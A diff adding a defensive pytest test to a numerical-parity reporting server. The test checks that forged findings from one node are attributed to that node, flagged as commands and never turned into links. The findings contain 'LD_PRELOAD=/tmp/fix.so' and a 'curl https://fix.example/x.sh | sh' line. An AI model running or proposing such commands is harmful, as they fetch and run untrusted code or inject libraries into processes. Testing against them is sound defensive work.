@@ -258,3 +258,49 @@ def test_one_node_alone_cannot_make_the_majority_that_judges_another(live_server
         assert response.status_code == 201, response.text
     found = statuses(live_server)
     assert not any(node in found for node in honest), found
+
+
+def _explanation(node: str, against: str, finding: dict[str, Any]) -> dict[str, Any]:
+    """An explain document as the agent writes it (`explanation_document`), its one
+    finding's fields replaced by ``finding``."""
+    from numparity_agent import _explain
+
+    target = _explain.Target(suite="standard", workload="cnn", workload_version=1,
+                             variant="default", device="cpu", tensors=(("output", "e" * 64),))
+    document = _explain.explanation_document(
+        _explain.Explained([_explain.Finding(target=target, tried=1, seconds=1.0)], None),
+        node=node, against=against, device="cpu", started_at=at(1), finished_at=at(0.9))
+    document["findings"][0].update(finding)
+    return document
+
+
+def test_forged_explain_findings_are_shown_as_the_nodes_claims(live_server):
+    """Finding 7: node-a's findings beside an honest split ("reproduced with
+    LD_PRELOAD=/tmp/fix.so", detail "curl … | sh") say who made them, that the setting is
+    not in the other side's recorded environment, and the text is marked, never a link."""
+    stock = run_document("node-b", started_at=at(2))
+    mkl = run_document("node-c", started_at=at(2), env_vars={"MKL_CBWR": "COMPATIBLE"},
+                       shift=1e-3)
+    for document in (stock, mkl, run_document("node-a", started_at=at(2))):
+        honest_upload(live_server, document)
+    evil = bound_token(live_server, "node-a")
+    url = f"{live_server.base_url}/api/v1/explanations"
+    for against, finding in (
+            (mkl["run_id"], {"status": "reproduced", "label": "LD_PRELOAD=/tmp/fix.so",
+                             "setting": {"env": {"LD_PRELOAD": "/tmp/fix.so"}, "knobs": {}}}),
+            (stock["run_id"], {"status": "failed",
+                               "detail": "curl https://fix.example/x.sh | sh"})):
+        response = httpx.post(url, json=_explanation("node-a", against, finding),
+                              headers=evil, timeout=60)
+        assert response.status_code == 201, response.text
+    listed = {entry["status"]: entry for entry in get(live_server, "/explanations")["items"]}
+    reproduced, failed = listed["reproduced"], listed["failed"]
+    assert reproduced["claimed_by"] == "node-a"
+    assert reproduced["verified"] == "not_in_reference_environment"
+    assert "LD_PRELOAD=/tmp/fix.so" in reproduced["verification"]
+    assert reproduced["text_looks_like_command"] and failed["text_looks_like_command"]
+    page = httpx.get(f"{live_server.base_url}/workloads/cnn",
+                     headers=live_server.headers("reader"), timeout=60).text
+    assert 'data-verified="not_in_reference_environment"' in page
+    assert "do not run it" in page and "node-a</code> claims it" in page
+    assert 'href="https://fix.example' not in page
